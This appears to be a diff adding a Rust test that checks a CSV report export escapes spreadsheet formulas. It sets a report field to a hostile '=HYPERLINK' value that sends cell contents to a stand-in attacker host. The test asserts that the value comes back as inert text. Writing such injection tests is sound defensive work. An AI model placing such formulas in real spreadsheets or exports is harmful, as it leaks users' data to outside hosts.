@@ -92,3 +92,22 @@ fn findings_json_lists_public_findings_with_their_source() {
     assert_eq!(all[0]["subject"], json!({ "kind": "report", "id": "to-2-2024-03-chi-bo" }));
     assert_eq!(all[0]["kind"], "too_short");
 }
+
+/// A value Excel would run (`=HYPERLINK(…)` in `accompanied_by`) reads back as text
+/// starting with `'`, in its own cell, the row's width unchanged.
+#[test]
+fn a_formula_in_a_report_reads_back_as_text() {
+    let mut site = site();
+    let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")";
+    for r in site.reports.iter_mut() {
+        r.accompanied_by = Some(hostile.into());
+    }
+    let csv = read_csv(&exports::reports_csv(&site, &judgement(), false));
+    assert_eq!(csv["widths"], json!([exports::REPORTS_HEADER.len()]));
+    let row = &csv["rows"][0];
+    assert_eq!(row["accompanied_by"], format!("'{hostile}"));
+    for (k, v) in row.as_object().unwrap() {
+        let v = v.as_str().unwrap();
+        assert!(!kehoach::output::csv::is_formula_like(v), "{k} = {v:?} would be run as a formula");
+    }
+}
